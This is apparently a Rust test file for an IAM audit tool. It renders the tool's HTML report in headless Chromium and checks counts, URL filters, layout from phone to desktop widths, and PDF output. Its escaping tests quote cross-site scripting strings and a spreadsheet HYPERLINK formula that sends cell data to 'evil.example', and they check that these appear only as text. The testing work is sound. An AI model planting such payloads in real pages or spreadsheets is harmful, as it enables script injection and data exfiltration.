//! The HTML report in a real browser (headless Chromium, which `.ci/run`
//! installs): counts and filters as the script applies them, the page
//! fitted to its container from a phone's width to a desktop's, an
//! organization's accounts and filter, the passes collapsed, a framework's
//! requirements, and the page printed to PDF and read back (`pdftotext`).

mod common;

use std::path::{Path, PathBuf};

use common::*;
use serde_json::Value;

fn render(path: &str, format: &str) -> String {
    render_format(path, format)
}

fn json(path: &str) -> Value {
    json_report(&[path]).1
}

/// The `<script>` elements a browser runs (the passes' data block is
/// `application/json`, which it never runs).
fn scripts(html: &str) -> usize {
    html.matches("<script").count() - html.matches("<script type=\"application/json\"").count()
}

/// The passes the page holds as data for its script to list.
fn pass_data_rows(html: &str) -> u64 {
    let marker = "<script type=\"application/json\" id=\"passes-data\">";
    let Some(start) = html.find(marker) else {
        return 0;
    };
    let start = start + marker.len();
    let end = start + html[start..].find("</script>").unwrap();
    let text = &html[start..end];
    assert!(!text.contains('<'), "a `<` could close the data block");
    let data: Value = serde_json::from_str(text).expect("the passes' data is JSON");
    data["rows"].as_array().unwrap().len() as u64
}

fn html_count(html: &str, status: &str) -> u64 {
    let marker = format!("id=\"count-{status}\">");
    let start = html.find(&marker).expect("a count") + marker.len();
    let end = start + html[start..].find('<').unwrap();
    html[start..end].parse().unwrap()
}

#[test]
fn html_is_self_contained_and_escapes_every_name() {
    for (_, path) in FORMAT_FIXTURES {
        let html = render(path, "html");
        assert_eq!(scripts(&html), 1, "{path}: only our script");
        for external in ["src=", "href=", "url(", "@import", "http://", "https://"] {
            assert!(
                !html.contains(external) || path.contains("hostile"),
                "{path}: `{external}` would load something"
            );
        }
        assert!(html.contains("Content-Security-Policy\" content=\"default-src 'none'"));
    }
    let html = render("tests/fixtures/hostile-names", "html");
    assert!(html.contains("user/&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
    assert!(html.contains("user/&lt;img src=x onerror=alert(1)&gt;"));
    assert!(!html.contains("<img"));
    assert!(!html.contains("<i>x</i>"));
    // The only `http` in the page is inside escaped evidence text.
    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1"));
}

#[test]
fn html_counts_match_the_json_summary() {
    for (_, path) in FORMAT_FIXTURES {
        let report = json(path);
        let html = render(path, "html");
        for status in [
            "fail",
            "error",
            "not-evaluated",
            "not-applicable",
            "waived",
            "pass",
            "total",
        ] {
            assert_eq!(
                html_count(&html, status),
                report["summary"][status].as_u64().unwrap(),
                "{path}: {status}"
            );
        }
        // A row per result that is not a pass; the passes as data.
        let rows = html.matches("<tr class=\"result ").count() as u64;
        let summary = &report["summary"];
        assert_eq!(
            rows,
            summary["total"].as_u64().unwrap() - summary["pass"].as_u64().unwrap()
        );
        assert_eq!(pass_data_rows(&html), summary["pass"].as_u64().unwrap());
    }
}

/// Headless Chromium, when installed (`.ci/run` installs it; under `CI` a
/// missing browser fails the test instead of skipping it).
fn chromium() -> Option<PathBuf> {
    for candidate in ["/usr/bin/chromium", "/usr/bin/chromium-browser"] {
        if Path::new(candidate).exists() {
            return Some(PathBuf::from(candidate));
        }
    }
    if std::env::var_os("CI").is_some() {
        panic!("headless Chromium is required under CI: `apt-get install chromium` (.ci/run does)");
    }
    eprintln!(
        "skipping: Chromium is not installed (`apt-get install chromium`); under CI this test runs"
    );
    None
}

/// The DOM after the page's script ran, as Chromium serializes it.
fn dump_dom(browser: &Path, url: &str) -> String {
    let profile = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-dev-shm-usage",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--dump-dom")
        .arg(url)
        .output()
        .expect("chromium runs");
    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        dom.contains("</html>"),
        "no DOM from chromium: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    dom
}

fn shown(dom: &str) -> u64 {
    let marker = "data-shown=\"";
    let start = dom.find(marker).expect("the shown counter") + marker.len();
    let end = start + dom[start..].find('"').unwrap();
    dom[start..end].parse().unwrap()
}

#[test]
fn html_in_a_real_browser_shows_the_right_counts_and_runs_no_evidence() {
    let Some(browser) = chromium() else { return };
    let tmp = tempfile::tempdir().unwrap();
    for (name, path) in FORMAT_FIXTURES {
        let report = json(path);
        let file = tmp.path().join(format!("{name}.html"));
        std::fs::write(&file, render(path, "html")).unwrap();
        let url = format!("file://{}", file.display());
        let summary = &report["summary"];
        let n = |k: &str| summary[k].as_u64().unwrap();

        let dom = dump_dom(&browser, &url);
        for status in [
            "fail",
            "error",
            "not-evaluated",
            "not-applicable",
            "pass",
            "total",
        ] {
            assert_eq!(html_count(&dom, status), n(status), "{name}: {status}");
        }
        // The script ran (it writes the counter) and shows every result.
        assert!(dom.contains(&format!("{} of {} results shown", n("total"), n("total"))));
        assert_eq!(shown(&dom), n("total"));
        // Nothing from the evidence executed or became an element.
        assert!(
            dom.contains("<title>IAM audit report"),
            "{name}: title changed"
        );
        assert_eq!(scripts(&dom), 1, "{name}");
        assert!(!dom.contains("<img"), "{name}");

        // The passes, listed by the script when asked for: every one, and
        // nothing from the evidence became an element on the way.
        let passing = dump_dom(&browser, &format!("{url}#status=pass"));
        assert_eq!(shown(&passing), n("pass"), "{name}: passes");
        assert_eq!(
            passing.matches("<tr class=\"result pass\"").count() as u64,
            n("pass"),
            "{name}"
        );
        assert_eq!(scripts(&passing), 1, "{name}");
        assert!(!passing.contains("<img"), "{name}");
        assert!(passing.contains("<title>IAM audit report"), "{name}");

        // Filters, set through the URL as a person would share them.
        let failing = dump_dom(&browser, &format!("{url}#status=fail"));
        assert_eq!(shown(&failing), n("fail"), "{name}: status filter");
        let high_fail = dump_dom(
            &browser,
            &format!("{url}#status=fail&control=support-role-trust-requires-mfa"),
        );
        let expected = failing_count(&report, "support-role-trust-requires-mfa");
        assert_eq!(shown(&high_fail), expected, "{name}: control filter");
        // A malformed part of the fragment is skipped; the others apply.
        let malformed = dump_dom(&browser, &format!("{url}#q=%E0%A4%A&status=fail"));
        assert_eq!(shown(&malformed), n("fail"), "{name}: malformed fragment");
    }
    // The text filter searches the finding too, not only the subject.
    let file = tmp.path().join("demo.html");
    let url = format!("file://{}", file.display());
    let searched = dump_dom(&browser, &format!("{url}#q=BoolIfExists"));
    let found = shown(&searched);
    assert!(found >= 1, "no row found by its finding's text");
    assert!(found < json("snapshots/demo")["summary"]["total"].as_u64().unwrap());
}

fn failing_count(report: &Value, policy: &str) -> u64 {
    report["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["policy"] == policy && r["status"] == "fail")
        .count() as u64
}

/// `pdftotext`, for reading back a printed report; required under CI
/// (`.ci/run` installs `poppler-utils`), else the print test is skipped.
fn pdftotext() -> Option<PathBuf> {
    let path = PathBuf::from("/usr/bin/pdftotext");
    if path.exists() {
        return Some(path);
    }
    if std::env::var_os("CI").is_some() {
        panic!("pdftotext is required under CI: `apt-get install poppler-utils` (.ci/run does)");
    }
    None
}

/// Prints `html` to a PDF with headless Chromium and reads its text back
/// with `pdftotext -raw` (in the order Chromium wrote it, cell by cell, so
/// a finding wrapped in its column reads whole).
fn printed_text(browser: &Path, pdftotext: &Path, dir: &Path, name: &str, html: &str) -> String {
    let page = dir.join(format!("{name}.html"));
    std::fs::write(&page, html).unwrap();
    let pdf = dir.join(format!("{name}.pdf"));
    let profile = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-dev-shm-usage",
            "--no-pdf-header-footer",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("--print-to-pdf={}", pdf.display()))
        .arg(format!("file://{}", page.display()))
        .output()
        .expect("chromium runs");
    assert!(
        pdf.exists(),
        "no PDF: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::process::Command::new(pdftotext)
        .arg("-raw")
        .arg(&pdf)
        .arg("-")
        .output()
        .expect("pdftotext runs");
    String::from_utf8_lossy(&text.stdout).into_owned()
}

/// Hostile names print as the text they are: markup stays text, and the
/// benchmark's requirements print with their numbers and statuses.
#[test]
fn hostile_names_and_requirements_print_as_text() {
    let (Some(browser), Some(pdftotext)) = (chromium(), pdftotext()) else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let text = printed_text(
        &browser,
        &pdftotext,
        tmp.path(),
        "hostile",
        &render("tests/fixtures/hostile-names", "html"),
    );
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    assert!(
        squeezed.contains("user/<script>document.title='pwned'</script>"),
        "{text}"
    );
    assert!(squeezed.contains("user/=HYPERLINK("), "{text}");
    let out = run(&[
        "evaluate",
        "snapshots/demo",
        "--benchmark",
        "cis-aws-v5.0",
        "--format",
        "html",
    ]);
    let text = printed_text(&browser, &pdftotext, tmp.path(), "cis", &stdout(&out));
    for needle in ["1.9", "1.21", "MANUAL", "FAIL", "PASS", "cis-aws-v5.0 1.9"] {
        assert!(text.contains(needle), "`{needle}` not printed: {text}");
    }
}

/// The HTML report printed to PDF by headless Chromium keeps what an
/// auditor files: every result's finding whole, its evidence column, the
/// table header on every page, a page per control with its remediation
/// once, and none of the filter widgets.
#[test]
fn html_prints_every_finding_and_its_evidence() {
    let (Some(browser), Some(pdftotext)) = (chromium(), pdftotext()) else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let text = printed_text(
        &browser,
        &pdftotext,
        tmp.path(),
        "demo",
        &render("snapshots/demo", "html"),
    );
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let report = json("snapshots/demo");
    let results = report["results"].as_array().unwrap();
    // Every result that is not a pass, its finding whole.
    for r in results.iter().filter(|r| r["status"] != "pass") {
        let message: String = r["message"]
            .as_str()
            .unwrap()
            .replace('`', "")
            .chars()
            .filter(|c| !c.is_whitespace())
            .collect();
        assert!(squeezed.contains(&message), "finding cut: {}", r["message"]);
    }
    // The evidence column: one file name per printed row. Passes print
    // collapsed (their count, not their rows), as the page shows them.
    let with_file = |file: &str| {
        results
            .iter()
            .filter(|r| r["location"]["file"] == file && r["status"] != "pass")
            .count()
    };
    let tail_count = |tail: &str| text.matches(tail).count();
    assert!(tail_count("report.json") >= with_file("credential-report.json"));
    assert!(tail_count("details.json") >= with_file("authorization-details.json"));
    // The header repeats on every page the results table spans.
    assert!(text.matches("STATUS").count() >= 2, "{text}");
    // The passes are counted.
    let passes = results.iter().filter(|r| r["status"] == "pass").count();
    assert!(text.contains(&format!("{passes} passed results")), "{text}");
    // No widgets.
    assert!(!text.contains("results shown"));
    // Each control's results (per status) start a page of their own, under
    // the repeated header: as many pages open on the header as there are
    // (status, control) groups (the demo's groups each fit on one page).
    let groups: std::collections::BTreeSet<(&str, &str)> = results
        .iter()
        .filter(|r| r["status"] != "pass")
        .map(|r| (r["status"].as_str().unwrap(), r["policy"].as_str().unwrap()))
        .collect();
    let header = "STATUS SEVERITY CONTROL SUBJECT FINDING EVIDENCE";
    let opening_on_header = text
        .split('\u{c}')
        .filter(|page| page.trim_start_matches("Results\n").starts_with(header))
        .count();
    assert_eq!(opening_on_header, groups.len(), "{text}");
    // A control's remediation is printed once, with its first row.
    assert_eq!(text.matches("Remediation:").count(), groups.len(), "{text}");
}

/// The page's layout measured in Chromium inside an `<iframe>` of the
/// given width (headless windows cannot be narrower than 500 px; an
/// iframe is a viewport of its own, so the page's media queries see its
/// width). The measuring script runs in the wrapper page, so the report is
/// the very file `evaluate` wrote, CSP included. Returns the viewport's
/// width, the document's scroll width, `main`'s right edge and each
/// table's right edge, and the whole measurement as JSON (with the results'
/// rows, those the browser may skip laying out, and the columns of the
/// first row that do not line up with the header's).
fn layout(browser: &Path, report: &Path, width: u32) -> (f64, f64, f64, Vec<(String, f64)>, Value) {
    let dir = report.parent().unwrap();
    let wrapper = dir.join(format!("wrap-{width}.html"));
    std::fs::write(
        &wrapper,
        format!(
            r#"<!DOCTYPE html><html><body style="margin:0"><iframe id="f" src="{}" style="width:{width}px;height:900px;border:0"></iframe>
<script>document.getElementById("f").addEventListener("load", function () {{
  var w = this.contentWindow, d = w.document;
  var r = {{vw: d.documentElement.clientWidth, scroll: d.documentElement.scrollWidth, main: d.querySelector("main").getBoundingClientRect().right, tables: []}};
  d.querySelectorAll("main table").forEach(function (t) {{ var b = t.getBoundingClientRect(); if (b.width > 0) {{ r.tables.push([t.id || t.className, b.right]); }} }});
  var rows = d.querySelectorAll('#results tbody tr'), heads = d.querySelectorAll('#results thead th');
  r.rows = rows.length; r.lazy = 0; r.misaligned = [];
  rows.forEach(function (row) {{ if (w.getComputedStyle(row).contentVisibility === "auto") {{ r.lazy++; }} }});
  if (rows.length && w.getComputedStyle(d.querySelector('#results thead')).display !== "none") {{
    rows[0].querySelectorAll("td").forEach(function (td, i) {{ var a = td.getBoundingClientRect(), h = heads[i].getBoundingClientRect(); if (Math.abs(a.left - h.left) > 1 || Math.abs(a.right - h.right) > 1) {{ r.misaligned.push(i); }} }});
  }}
  var p = document.createElement("pre"); p.id = "measure"; p.textContent = JSON.stringify(r); document.body.appendChild(p);
}});</script></body></html>"#,
            report.file_name().unwrap().to_str().unwrap()
        ),
    )
    .unwrap();
    let profile = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-dev-shm-usage",
            // The wrapper reads the framed page's layout: both are files.
            "--allow-file-access-from-files",
            "--window-size=1600,1000",
            "--virtual-time-budget=5000",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", wrapper.display()))
        .output()
        .expect("chromium runs");
    let dom = String::from_utf8_lossy(&out.stdout);
    let start = dom
        .find("<pre id=\"measure\">")
        .unwrap_or_else(|| panic!("no measurement: {}", String::from_utf8_lossy(&out.stderr)))
        + "<pre id=\"measure\">".len();
    let end = start + dom[start..].find("</pre>").unwrap();
    let m: Value = serde_json::from_str(&dom[start..end].replace("&quot;", "\"")).unwrap();
    let tables = m["tables"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t[0].as_str().unwrap().to_string(), t[1].as_f64().unwrap()))
        .collect();
    (
        m["vw"].as_f64().unwrap(),
        m["scroll"].as_f64().unwrap(),
        m["main"].as_f64().unwrap(),
        tables,
        m,
    )
}

/// At a desktop's 1,400 px and a phone's 400 px every table fits its
/// container and nothing scrolls sideways, for the demo with a benchmark's
/// requirements, an organization, and names long and hostile.
#[test]
fn html_fits_its_container_from_phone_to_desktop() {
    let Some(browser) = chromium() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let pages = [
        (
            "demo",
            vec!["snapshots/demo", "--benchmark", "cis-aws-v5.0"],
        ),
        ("org", vec!["snapshots/org"]),
        ("hostile", vec!["tests/fixtures/hostile-names"]),
    ];
    for (name, args) in pages {
        let file = tmp.path().join(format!("{name}.html"));
        let mut argv = vec!["evaluate"];
        argv.extend(args);
        let file_arg = file.to_str().unwrap().to_string();
        argv.extend(["--format", "html", "-o", &file_arg]);
        let out = run(&argv);
        assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
        for width in [1400, 400] {
            let (vw, scroll, main, tables, m) = layout(&browser, &file, width);
            // On a desktop the results' rows are grids whose columns line up
            // with the header's, and a browser may skip laying out those out
            // of view; on a phone they are blocks, the header hidden.
            let rows = m["rows"].as_u64().unwrap();
            assert!(rows > 0, "{name}@{width}");
            let lazy = if width == 1400 { rows } else { 0 };
            assert_eq!(m["lazy"].as_u64().unwrap(), lazy, "{name}@{width}");
            assert_eq!(m["misaligned"], serde_json::json!([]), "{name}@{width}");
            assert!(
                vw <= width as f64 && vw > width as f64 - 40.0,
                "{name}@{width}: {vw}"
            );
            assert!(
                scroll <= vw,
                "{name}@{width}: scrolls sideways ({scroll} > {vw})"
            );
            assert!(!tables.is_empty(), "{name}@{width}");
            for (table, right) in tables {
                assert!(
                    right <= main + 0.5,
                    "{name}@{width}: table `{table}` overflows its container ({right} > {main})"
                );
            }
        }
    }
}

/// An organization's page: a summary row per account whose button (or a
/// shared `#account=` link) filters the results to that account, an
/// account filter, and the passes collapsed until asked for.
#[test]
fn html_of_an_organization_filters_by_account_and_collapses_passes() {
    let report = json("snapshots/org");
    let html = render("snapshots/org", "html");
    let snapshots = report["snapshots"].as_array().unwrap();
    assert!(html.contains("<section id=\"accounts\">"));
    assert!(html.contains("<select id=\"f-account\">"));
    for s in snapshots {
        let id = s["account"].as_str().unwrap();
        assert!(
            html.contains(&format!("class=\"show-account\" data-account=\"{id}\"")),
            "{id}"
        );
    }
    let passes = report["summary"]["pass"].as_u64().unwrap();
    assert!(passes > 0);
    assert!(html.contains(&format!(
        "<details id=\"passes\"><summary>{passes} passed results"
    )));
    // Collapsed: no `open` on the passes.
    assert!(!html.contains("<details id=\"passes\" open"));

    let Some(browser) = chromium() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("org.html");
    std::fs::write(&file, &html).unwrap();
    let url = format!("file://{}", file.display());
    for s in snapshots {
        let id = s["account"].as_str().unwrap();
        let dom = dump_dom(&browser, &format!("{url}#account={id}"));
        let expected = report["results"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["account"] == id)
            .count() as u64;
        assert!(expected > 0);
        assert_eq!(shown(&dom), expected, "account {id}");
    }
    // Asking for passes opens them.
    let dom = dump_dom(&browser, &format!("{url}#status=pass"));
    assert_eq!(shown(&dom), passes);
    assert!(
        dom.contains("<details id=\"passes\" open"),
        "passes stay closed"
    );
    let dom = dump_dom(&browser, &url);
    assert!(!dom.contains("<details id=\"passes\" open"));
}

/// `--benchmark`: the page lists every requirement of the benchmark with
/// the status the JSON report gives it, the undecidable ones as MANUAL, and
/// a requirement's control links to that control's results.
#[test]
fn html_shows_a_benchmarks_requirements_with_their_statuses() {
    let args = ["snapshots/demo", "--benchmark", "cis-aws-v5.0"];
    let (_, report) = json_report(&args);
    let out = run(&[
        "evaluate",
        "snapshots/demo",
        "--benchmark",
        "cis-aws-v5.0",
        "--format",
        "html",
    ]);
    let html = stdout(&out);
    let view = &report["frameworks"][0];
    let requirements = view["requirements"].as_array().unwrap();
    assert_eq!(requirements.len(), 21);
    let section = &html[html.find("<section class=\"framework\"").unwrap()..];
    let section = &section[..section.find("</section>").unwrap()];
    let rows: Vec<&str> = section.split("<tr class=\"req\">").skip(1).collect();
    assert_eq!(rows.len(), requirements.len());
    for (row, r) in rows.iter().zip(requirements) {
        assert!(
            row.starts_with(&format!("<td>{}</td>", r["id"].as_str().unwrap())),
            "{row}"
        );
        let status = r["status"].as_str().unwrap();
        assert!(
            row.contains(&format!("<span class=\"badge {status}\">")),
            "{row}: {status}"
        );
    }
    assert!(section.contains(">MANUAL</span>"));
    assert!(section.contains("href=\"#control=console-password-requires-mfa\""));

    let Some(browser) = chromium() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("demo.html");
    std::fs::write(&file, &html).unwrap();
    let url = format!("file://{}", file.display());
    let dom = dump_dom(
        &browser,
        &format!("{url}#control=console-password-requires-mfa"),
    );
    let expected = report["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["policy"] == "console-password-requires-mfa")
        .count() as u64;
    assert_eq!(shown(&dom), expected);
}

/// A report with more results than Chromium paginates quickly as one table
/// prints its rows as blocks: every failing row's finding and evidence is
/// still in the PDF, and each control's page opens on a header line.
#[test]
fn a_large_report_prints_its_rows_as_blocks() {
    let (Some(browser), Some(pdftotext)) = (chromium(), pdftotext()) else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let evidence = tmp.path().join("evidence");
    std::fs::create_dir(&evidence).unwrap();
    let mut csv = String::from("user,arn,user_creation_time,password_enabled,password_last_used,password_last_changed,password_next_rotation,mfa_active,access_key_1_active,access_key_1_last_rotated,access_key_1_last_used_date,access_key_1_last_used_region,access_key_1_last_used_service,access_key_2_active,access_key_2_last_rotated,access_key_2_last_used_date,access_key_2_last_used_region,access_key_2_last_used_service,cert_1_active,cert_1_last_rotated,cert_2_active,cert_2_last_rotated\n");
    let users = 2_100;
    for i in 0..users {
        csv.push_str(&format!("u{i:05},arn:aws:iam::123456789012:user/u{i:05},2026-01-01T00:00:00+00:00,true,2026-11-01T00:00:00+00:00,2026-01-01T00:00:00+00:00,N/A,false,false,N/A,N/A,N/A,N/A,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A\n"));
    }
    std::fs::write(evidence.join("credential-report.csv"), csv).unwrap();
    let out = run(&[
        "evaluate",
        evidence.to_str().unwrap(),
        "--as-of",
        "2026-11-20T00:00:00Z",
        "--select",
        "console-password-requires-mfa",
        "--format",
        "html",
    ]);
    let html = stdout(&out);
    assert!(html.contains("class=\"results print-blocks\""));
    let text = printed_text(&browser, &pdftotext, tmp.path(), "large", &html);
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    for i in 0..users {
        let subject = format!("user/u{i:05}consolepasswordenabled;noMFAdeviceisactive");
        assert!(squeezed.contains(&subject), "row {i} not printed whole");
    }
    assert_eq!(
        squeezed.matches("credential-report.csvline").count(),
        users,
        "an evidence location per row"
    );
    // One (status, control) group: one header line, one remediation.
    assert_eq!(text.matches("STATUS · SEVERITY · CONTROL").count(), 1);
    assert_eq!(text.matches("Remediation:").count(), 1);
}
